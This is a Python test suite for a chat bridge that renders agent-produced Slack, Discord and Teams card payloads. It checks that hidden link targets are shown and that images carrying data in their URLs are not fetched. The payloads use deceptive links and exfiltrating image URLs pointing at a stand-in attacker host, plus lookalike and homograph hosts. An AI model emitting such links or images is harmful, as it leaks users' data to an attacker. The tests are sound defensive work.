"""Native payloads of agents show the targets of their links, and no image URL leaks text.

Each payload is one that an attacker may trick an agent into. It is shown on its own platform, where
it would otherwise be sent unchanged, and on the others.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any

import pytest

from bridge.content.cards.reader import Cards
from bridge.model import ChannelRef
from bridge.uacs import Actor, Message, StructuredDataPart
from connectors.discord import cards as discord
from connectors.discord.cards.schemas import COMPONENTS, EMBEDS
from connectors.discord.rich import rich_bodies as discord_bodies
from connectors.slack import cards as slack
from connectors.slack.cards.schemas import ATTACHMENTS, BLOCKS
from connectors.slack.rich import rich_bodies as slack_bodies
from connectors.teams import cards as teams
from connectors.teams.above import Above
from connectors.teams.cards.schemas import ADAPTIVE
from connectors.teams.rich import rich_bodies as teams_bodies

Json = dict[str, Any]
CARDS = Cards.over([slack, discord, teams], bytes(32))
EVIL = "https://evil.example/collect?d=the-plan"
GOOD = "https://good.example"
HIDDEN = f"https://evil.example/a.png?d={'x' * 20}"
CHANNEL = ChannelRef(platform="teams", workspace="t", channel="19:x@thread.tacv2")


def message(schema_id: str, data: Any, actor: str = "agent:helper") -> Message:
    return Message(
        message_id="m1",
        timestamp="2026-11-22T12:00:00Z",
        actor=Actor(id=actor, role="assistant"),
        content=(StructuredDataPart(schema_id=schema_id, data=data),),
    )


def on_slack(message: Message) -> Any:
    return [body.content for body in slack_bodies(message, (), CARDS, None)[0]]


def on_discord(message: Message) -> Any:
    return [body.content for body in discord_bodies(message, (), CARDS, None)[0]]


def on_teams(message: Message) -> Any:
    return teams_bodies(message, Above("helper"), CHANNEL, CARDS, None)[0]


WRITERS: dict[str, Callable[[Message], Any]] = {
    "slack": on_slack, "discord": on_discord, "teams": on_teams,
}  # fmt: skip
everywhere = pytest.mark.parametrize("platform", WRITERS)


def section(text: str, **more: Any) -> list[Json]:
    return [{"type": "section", "text": {"type": "mrkdwn", "text": text}, **more}]


def card(*body: Json, **more: Any) -> Json:
    return {"type": "AdaptiveCard", "version": "1.5", "body": list(body), **more}


def text(markdown: str) -> Json:
    return {"type": "TextBlock", "text": markdown, "wrap": True}


LABEL = {"type": "plain_text", "text": "Open the handbook"}
SELECT = {"type": "Action.OpenUrl", "url": EVIL}
LINKS: dict[str, tuple[str, Any]] = {
    "slack: mrkdwn": (BLOCKS, section(f"See <{EVIL}|the handbook>")),
    "slack: an address as a name": (BLOCKS, section(f"See <{EVIL}|{GOOD}>")),
    "slack: a link in rich text": (BLOCKS, [{"type": "rich_text", "elements": [
        {"type": "rich_text_section", "elements": [
            {"type": "link", "url": EVIL, "text": "the handbook"}]}]}]),
    "slack: a date with a link": (BLOCKS, section(f"<!date^1700000000^{{date}}^{EVIL}|then>")),
    "slack: a title": (ATTACHMENTS, [{"title": "Handbook", "title_link": EVIL, "text": "x"}]),
    "slack: an author": (ATTACHMENTS, [{"author_name": "Ann", "author_link": EVIL, "text": "x"}]),
    "discord: Markdown": (COMPONENTS, [{"type": 10, "content": f"See [the handbook]({EVIL})"}]),
    "discord: a title": (EMBEDS, [{"title": "Handbook", "url": EVIL, "description": "x"}]),
    "discord: an author": (EMBEDS, [{"author": {"name": "Ann", "url": EVIL}, "description": "x"}]),
    "teams: Markdown": (ADAPTIVE, card(text(f"See [the handbook]({EVIL})"))),
    "teams: a box": (ADAPTIVE, card({
        "type": "Container", "items": [text("x")], "selectAction": SELECT})),
    "teams: a run": (ADAPTIVE, card({"type": "RichTextBlock", "inlines": [
        {"type": "TextRun", "text": "x", "selectAction": SELECT}]})),
    "teams: a picture to press": (ADAPTIVE, card({
        "type": "Image", "url": f"{GOOD}/a.png", "selectAction": SELECT})),
}  # fmt: skip
BUTTONS: dict[str, tuple[str, Any]] = {
    "slack": (BLOCKS, [{"type": "actions", "elements": [
        {"type": "button", "text": LABEL, "url": EVIL, "action_id": "a"}]}]),
    "discord": (COMPONENTS, [{"type": 10, "content": "x"}, {"type": 1, "components": [
        {"type": 2, "style": 5, "label": "Open the handbook", "url": EVIL}]}]),
    "teams": (ADAPTIVE, card(text("x"), actions=[{**SELECT, "title": "Open the handbook"}])),
}  # fmt: skip
PICTURES: dict[str, tuple[str, Any]] = {
    "slack: a block": (BLOCKS, [{"type": "image", "image_url": HIDDEN, "alt_text": "a cat"}]),
    "slack: small print": (BLOCKS, [{"type": "context", "elements": [
        {"type": "image", "image_url": HIDDEN, "alt_text": "a cat"}]}]),
    "slack: beside a text": (BLOCKS, section("x", accessory={
        "type": "image", "image_url": HIDDEN, "alt_text": "a cat"})),
    "slack: in an attachment": (ATTACHMENTS, [{"text": "x", "image_url": HIDDEN}]),
    "slack: an icon": (ATTACHMENTS, [
        {"text": "x", "author_name": "Ann", "author_icon": HIDDEN}]),
    "discord: an embed": (EMBEDS, [{"description": "x", "image": {"url": HIDDEN}}]),
    "discord: a small one": (EMBEDS, [{"description": "x", "thumbnail": {"url": HIDDEN}}]),
    "discord: an icon": (EMBEDS, [{"footer": {"text": "x", "icon_url": HIDDEN}}]),
    "discord: a gallery": (COMPONENTS, [{"type": 12, "items": [
        {"media": {"url": HIDDEN}}, {"media": {"url": f"{GOOD}/a.png"}}]}]),
    "discord: beside a text": (COMPONENTS, [{"type": 9, "components": [
        {"type": 10, "content": "x"}], "accessory": {"type": 11, "media": {"url": HIDDEN}}}]),
    "teams: a picture": (ADAPTIVE, card({"type": "Image", "url": HIDDEN, "altText": "a cat"})),
    "teams: a background": (ADAPTIVE, card(text("x"), backgroundImage=HIDDEN)),
    "teams: an icon": (ADAPTIVE, card(text("x"), actions=[
        {"type": "Action.Submit", "title": "Go", "iconUrl": HIDDEN}])),
    "teams: a film": (ADAPTIVE, card({"type": "Media", "poster": HIDDEN, "sources": [
        {"mimeType": "video/mp4", "url": f"{GOOD}/a.mp4"}]})),
}  # fmt: skip
FETCHED = ("image_url", "thumb_url", "author_icon", "footer_icon", "icon_url", "iconUrl", "poster",
           "backgroundImage", "image", "thumbnail", "media")  # fmt: skip


def strings(value: Any, key: str = "") -> list[tuple[str, str]]:
    if isinstance(value, dict):
        return [item for name, inner in value.items() for item in strings(inner, name)]
    if isinstance(value, list):
        return [item for inner in value for item in strings(inner, key)]
    return [(key, value)] if isinstance(value, str) else []


def words(native: Any) -> str:
    """Return the texts that a person reads, without the URLs behind link texts."""
    keys = ("text", "content", "title", "name", "label", "description", "value", "fallback")
    return "\n".join(text for key, text in strings(native) if key in keys)


@everywhere
@pytest.mark.parametrize("case", LINKS)
def test_a_link_with_other_text_shows_its_url_or_is_removed(platform: str, case: str) -> None:
    native = WRITERS[platform](message(*LINKS[case]))

    everything = json.dumps(native, ensure_ascii=False)
    if "evil.example" in everything:
        assert "evil.example/collect" in words(native)
    for hidden in (f"{EVIL}|the handbook", f"{EVIL}|{GOOD}", f"[the handbook]({EVIL}"):
        assert hidden not in everything
    for key in ("title_link", "author_link", "selectAction"):
        assert key not in everything
    assert not any(key == "url" and text == EVIL and platform == "discord"
                   for key, text in strings(native))  # fmt: skip


@everywhere
@pytest.mark.parametrize("case", BUTTONS)
def test_a_link_button_shows_its_host(platform: str, case: str) -> None:
    native = WRITERS[platform](message(*BUTTONS[case]))

    assert "Open the handbook (evil.example)" in words(native)
    assert ("url", EVIL) in strings(native)


@everywhere
@pytest.mark.parametrize("case", PICTURES)
def test_images_with_data_in_their_url_are_not_fetched(platform: str, case: str) -> None:
    native = WRITERS[platform](message(*PICTURES[case]))

    for key, text in strings(native):
        if HIDDEN in text:
            assert key not in FETCHED, (key, text)
    assert not any(f'"{key}": {{"url": "{HIDDEN}' in json.dumps(native) for key in FETCHED)
    for item in _with_type(native, "Image"):
        assert item.get("url") != HIDDEN


def _with_type(value: Any, kind: str) -> list[Json]:
    if isinstance(value, list):
        return [item for inner in value for item in _with_type(inner, kind)]
    if not isinstance(value, dict):
        return []
    matching = [value] if value.get("type") == kind else []
    return matching + [item for inner in value.values() for item in _with_type(inner, kind)]


HARMLESS: dict[str, tuple[str, Any]] = {
    "slack": (BLOCKS, section(f"Read <{GOOD}/x> <{GOOD}|{GOOD}>", accessory={
        "type": "image", "image_url": f"{GOOD}/a.png", "alt_text": "a cat"})),
    "discord": (COMPONENTS, [{"type": 10, "content": f"Read {GOOD}/x"}, {"type": 12, "items": [
        {"media": {"url": f"{GOOD}/a.png"}}]}]),
    "teams": (ADAPTIVE, {**card(text("Read"), {"type": "Image", "url": f"{GOOD}/a.png"}),
              "$schema": "http://adaptivecards.io/schemas/adaptive-card.json"}),
}  # fmt: skip


@pytest.mark.parametrize("platform", HARMLESS)
def test_a_harmless_payload_is_sent_home_unchanged(platform: str) -> None:
    schema_id, data = HARMLESS[platform]

    (native,) = WRITERS[platform](message(schema_id, data))

    written = json.dumps(native)
    native = data["body"] if isinstance(data, dict) else data
    assert all(json.dumps(item) in written for item in native)


DECEIVING: dict[str, tuple[str, Any]] = {
    "slack": (BLOCKS, section(f"See <{EVIL}|{GOOD}/a> and <{GOOD}/b|{GOOD}>")),
    "teams": (ADAPTIVE, card(text(f"See [{GOOD}/a]({EVIL}) and [{GOOD}]({GOOD}/b)"))),
}


@everywhere
@pytest.mark.parametrize("case", DECEIVING)
def test_a_url_of_another_host_is_not_accepted_as_link_text(platform: str, case: str) -> None:
    native = WRITERS[platform](message(*DECEIVING[case], actor="slack:T:B1"))

    assert "evil.example/collect" in words(native)
    assert f"{EVIL}|{GOOD}" not in json.dumps(native)
    assert not re.search(r"good\.example/a[^ ]*\]?\(https://evil", json.dumps(native))


@everywhere
def test_links_and_buttons_of_people_keep_their_text(platform: str) -> None:
    native = WRITERS[platform](message(*BUTTONS["slack"], actor="slack:T:B1"))

    assert "evil.example)" not in words(native)


@pytest.mark.parametrize(("url", "label"), [
    ("https://good.example@evil.example/", "(evil.example)"),
    ("https://EVIL.example:8443/x", "(evil.example)"),
    ("https://xn--80ak6aa92e.com/", "(xn--80ak6aa92e.com)"),
    ("https://аррӏе.com/", "(xn--80ak6aa92e.com)"),
    (f"https://{'a.' * 60}evil.example/", ".evil.example)"),
])  # fmt: skip
def test_a_button_shows_the_host_that_the_browser_contacts(url: str, label: str) -> None:
    button = {"type": "button", "text": LABEL, "url": url, "action_id": "a"}

    native = on_slack(message(BLOCKS, [{"type": "actions", "elements": [button]}]))

    assert label in words(native)
